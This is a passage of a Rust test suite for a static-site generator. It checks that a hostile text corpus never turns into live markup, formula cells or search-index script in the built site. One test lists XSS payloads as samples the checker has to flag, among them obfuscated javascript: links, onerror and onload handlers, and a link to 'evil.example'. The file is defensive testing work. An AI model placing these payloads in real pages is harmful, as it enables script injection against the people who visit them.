                f.add(file, format!("<{name} rel={value:?}>"));
            }
        }
        if name == "style" && !text[start..].starts_with("</") {
            // The only <style> element is the report's running header: a CSS string the data
            // cannot leave.
            let body_end = text[j..].find("</style>").map_or(text.len(), |e| j + e);
            let css = &text[j..body_end];
            if !css.starts_with("@page { @top-center { content: \"")
                || css.matches('"').count() != 2
                || css.contains('<')
            {
                f.add(
                    file,
                    format!(
                        "unexpected <style> content: {:?}",
                        css.chars().take(200).collect::<String>()
                    ),
                );
            }
            j = body_end;
        }
        i = j;
    }
    tags
}

/// Each language's search index, `search/index.js`: one assignment of JSON to the search's
/// global, no `</` anywhere (so no `</script>` from the data), and the corpus's text kept as
/// data in its entries. Returns the number of entries checked.
fn check_search_index(out: &Path, corpus: &[String], f: &mut Findings) -> usize {
    let mut checked = 0;
    for lang_root in ["", "en/"] {
        let rel = format!("{lang_root}search/index.js");
        let text = fs::read_to_string(out.join(&rel)).unwrap_or_else(|e| panic!("{rel}: {e}"));
        if text.contains("</") {
            f.add(&rel, "`</` in the search index".to_string());
        }
        let Some(json) = text
            .strip_prefix("window.sinergiSearch = ")
            .and_then(|j| j.strip_suffix(";\n"))
        else {
            f.add(
                &rel,
                "not one assignment of the search's global".to_string(),
            );
            continue;
        };
        let index: serde_json::Value = match serde_json::from_str(json) {
            Ok(v) => v,
            Err(err) => {
                f.add(&rel, format!("not JSON: {err}"));
                continue;
            }
        };
        let texts: BTreeSet<&str> = ["title", "context", "titles"]
            .iter()
            .flat_map(|col| index[*col].as_array().into_iter().flatten())
            .filter_map(|v| v.as_str())
            .collect();
        checked += index["title"].as_array().map_or(0, Vec::len);
        // Titles are names the data gives in full: the hostile ones come through unchanged.
        let kept = corpus
            .iter()
            .filter(|c| c.contains("</script>") && texts.iter().any(|t| t.contains(c.trim())))
            .count();
        if kept == 0 {
            f.add(
                &rel,
                "no `</script>` entry of the corpus reached the index".to_string(),
            );
        }
    }
    checked
}

fn check_static(out: &Path, f: &mut Findings, controls: &mut usize) -> (usize, usize) {
    let mut files = 0;
    let mut tags = 0;
    for e in walkdir::WalkDir::new(out).sort_by_file_name() {
        let e = e.unwrap();
        let path = e.path();
        let ext = path.extension().and_then(|x| x.to_str()).unwrap_or("");
        if !["html", "svg", "xml", "json", "csv"].contains(&ext) {
            continue;
        }
        let rel = path.strip_prefix(out).unwrap().display().to_string();
        let text = fs::read_to_string(path).unwrap_or_else(|err| panic!("{rel}: {err}"));
        if text.contains(TEMPLATE_PRODUCT) || text.contains(TEMPLATE_LOOP) {
            f.add(&rel, "template code from the data ran".to_string());
        }
        match ext {
            "json" => {
                if let Err(err) = serde_json::from_str::<serde_json::Value>(&text) {
                    f.add(&rel, format!("not JSON: {err}"));
                }
            }
            "csv" => {}
            _ => {
                files += 1;
                if ext == "html" && !text.contains("__pwn") {
                    f.add(&rel, "no corpus text reached this page".to_string());
                }
                tags += check_markup(&rel, &common::without_own_scripts(&text), f);
                if ext != "html" {
                    // Standalone SVG and XML must stay well-formed XML, with no script.
                    match roxmltree::Document::parse_with_options(
                        &text,
                        roxmltree::ParsingOptions {
                            allow_dtd: false,
                            ..Default::default()
                        },
                    ) {
                        Ok(doc) => {
                            for n in doc.descendants().filter(|n| n.is_element()) {
                                let name = n.tag_name().name().to_ascii_lowercase();
                                if matches!(name.as_str(), "script" | "foreignobject" | "iframe") {
                                    f.add(&rel, format!("<{name}> element"));
                                }
                            }
                        }
                        Err(err) => f.add(&rel, format!("not well-formed XML: {err}")),
                    }
                }
                // Not a code path, but invalid HTML: counted and reported, not failed (see SECURITY.md).
                if ext == "html"
                    && text
                        .chars()
                        .any(|c| c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
                {
                    *controls += 1;
                }
            }
        }
    }
    (files, tags)
}

/// The value a CSV cell must hold for `note`: the text, with a `'` before a formula.
fn defused(note: &str) -> String {
    if note.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{note}")
    } else {
        note.to_string()
    }
}

fn check_csv(out: &Path, notes: &[Vec<String>], f: &mut Findings) -> usize {
    let mut cells = 0;
    for (n, these) in notes.iter().enumerate() {
        let rel = format!("agreements/kad-{n}/shipments.csv");
        let bytes = fs::read(out.join(&rel)).unwrap();
        let mut r = csv::ReaderBuilder::new()
            .has_headers(true)
            .flexible(false)
            .from_reader(bytes.as_slice());
        let header = r.headers().unwrap().clone();
        assert_eq!(
            header.iter().collect::<Vec<_>>().join(","),
            "id,date,from,to,commodity,quantity,unit,status,verification,document,value_idr,sources,note"
        );
        let mut rows = 0;
        for (i, rec) in r.records().enumerate() {
            let rec = match rec {
                Ok(rec) => rec,
                Err(err) => {
                    f.add(&rel, format!("row {}: {err}", i + 2));
                    continue;
                }
            };
            rows += 1;
            if rec.len() != 13 {
                f.add(&rel, format!("row {}: {} columns", i + 2, rec.len()));
            }
            for cell in rec.iter() {
                cells += 1;
                if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                    f.add(&rel, format!("row {}: formula cell {cell:?}", i + 2));
                }
            }
            let id = rec.get(0).unwrap_or("");
            let k: usize = id.trim_start_matches('r').parse().unwrap_or(usize::MAX);
            match these.get(k) {
                Some(note) if rec.get(12) == Some(defused(note).as_str()) => {}
                Some(note) => f.add(
                    &rel,
                    format!(
                        "row {}: note {:?} should be {:?}",
                        i + 2,
                        rec.get(12),
                        defused(note)
                    ),
                ),
                None => f.add(&rel, format!("row {}: unknown id {id:?}", i + 2)),
            }
        }
        if rows != these.len() {
            f.add(&rel, format!("{rows} rows, expected {}", these.len()));
        }
    }
    cells
}

// ---------------------------------------------------------------- the browser

fn in_ci() -> bool {
    std::env::var("CI").is_ok_and(|v| {
        let v = v.trim().to_ascii_lowercase();
        !(v.is_empty() || v == "0" || v == "false")
    })
}

fn browser_missing() -> Vec<String> {
    let mut missing = Vec::new();
    let chrome = match std::env::var_os("SINERGI_CHROME") {
        Some(p) if !p.is_empty() => PathBuf::from(p),
        _ => PathBuf::from("/usr/bin/chromium"),
    };
    if !chrome.is_file() {
        missing.push(format!("chromium at {}", chrome.display()));
    }
    let node = Command::new("node")
        .arg("--version")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !node {
        missing.push("node".to_string());
    }
    let pkg = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/browser/node_modules/playwright-core/package.json");
    if !pkg.is_file() {
        missing.push("npm package playwright-core in tests/browser/node_modules".to_string());
    }
    missing
}

fn browser_check(out: &Path) {
    let missing = browser_missing();
    if !missing.is_empty() {
        let what = missing.join(", ");
        if in_ci() {
            panic!(
                "injection browser check cannot run under CI: missing {what}. .ci/run must install them."
            );
        }
        eprintln!(
            "\nSKIPPED: injection browser check needs chromium, node and playwright-core (run .ci/run)\n  missing: {what}"
        );
        return;
    }
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser/injection.mjs");
    let o = Command::new("node")
        .arg(script)
        .arg(out)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(
        o.status.success(),
        "injection.mjs failed ({}):\n{text}",
        o.status
    );
    eprintln!("{}", text.trim_end());
}

// ---------------------------------------------------------------- the test

/// The static checks catch what they are for: each of these must be flagged.
#[test]
fn static_checks_catch_injected_markup() {
    let bad = [
        "<p><script>alert(1)</script></p>",
        "<p><img src=x onerror=alert(1)></p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" &#106;avascript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"data:text/html,x\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<p title=\"x\" onmouseover=\"alert(1)\">x</p>",
        "<p title='x' onmouseover='alert(1)'>x</p>",
        "<svg onload=alert(1)>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<link rel=import href=\"x\">",
        "<style>@page { @top-center { content: \"a\"; } }</style><script>x</script>",
        "<meta http-equiv=refresh content=0>",
        "<!-- x -->",
    ];
    for b in bad {
        let mut f = Findings::default();
        check_markup("t", b, &mut f);
        assert!(!f.0.is_empty(), "not flagged: {b}");
    }
    let mut f = Findings::default();
    let good = "<!DOCTYPE html><html lang=\"id\"><head><meta charset=\"utf-8\"><link rel=\"stylesheet\" href=\"../assets/style.css\"></head><body><p class=\"x\">&lt;script&gt; a &amp; b</p><a href=\"https://example.id/a'b\">x</a><a href=\"#top\">y</a></body></html>";
    check_markup("t", good, &mut f);
    assert!(f.0.is_empty(), "{:?}", f.0);
}

#[test]
fn corpus_is_large_and_varied() {
    let c = corpus();
    assert!(c.len() >= 500, "only {} entries", c.len());
    assert!(c.iter().any(|s| s.contains('\0')));
    assert!(c.iter().any(|s| s.contains('\u{202e}')));
    assert!(c.iter().any(|s| s.starts_with('=')));
    assert!(long_strings().iter().all(|s| s.chars().count() == 100_000));
}

#[test]
fn hostile_corpus_never_becomes_markup_or_runs() {
    let t0 = Instant::now();
    let corpus = corpus();
    let root = std::env::temp_dir().join(format!("sinergi-injection-{}", std::process::id()));
    let _ = fs::remove_dir_all(&root);
    let notes = write_site(&root, &corpus);
    commit_hostile_history(&root, &corpus);
    let out = root.join("out");
    let tb = Instant::now();
    let o = Command::new(env!("CARGO_BIN_EXE_sinergi"))
        .args(["build", "--site"])
        .arg(&root)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "build failed:\n{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
            .chars()
            .take(20_000)
            .collect::<String>()
    );
    let build_time = tb.elapsed();
    // Every agreement's share image was drawn, whatever its title, parties and figures hold.
    for n in 0..AGREEMENTS {
        for lang in ["", "en/"] {
            let image = out.join(format!("{lang}agreements/kad-{n}/preview.png"));
            let bytes = fs::read(&image).unwrap_or_else(|e| panic!("{}: {e}", image.display()));
            assert!(
                bytes.starts_with(b"\x89PNG\r\n\x1a\n"),
                "{}",
                image.display()
            );
            assert_eq!(&bytes[16..24], &[0, 0, 4, 176, 0, 0, 2, 118], "1200x630");
        }
    }

    let mut f = Findings::default();
    let mut controls = 0;
    let (files, tags) = check_static(&out, &mut f, &mut controls);
    let cells = check_csv(&out, &notes, &mut f);
    let entries = check_search_index(&out, &corpus, &mut f);
    assert!(
        f.0.is_empty(),
        "site at {}:\n{}",
        root.display(),
        f.0.join("\n")
    );
    assert!(files >= 60, "only {files} html/svg/xml files");
    eprintln!(
        "injection: {} corpus entries + 3 of 100,000 chars; build {:.1?}; {files} html/svg/xml files, {tags} tags, {cells} CSV cells, {entries} search entries checked",
        corpus.len(),
        build_time
    );
    assert_eq!(
        controls, 0,
        "{controls} HTML files carry control characters from the data (invalid HTML)"
    );

    browser_check(&out);
    eprintln!("injection: {:.1?} in all", t0.elapsed());
    let _ = fs::remove_dir_all(&root);
}
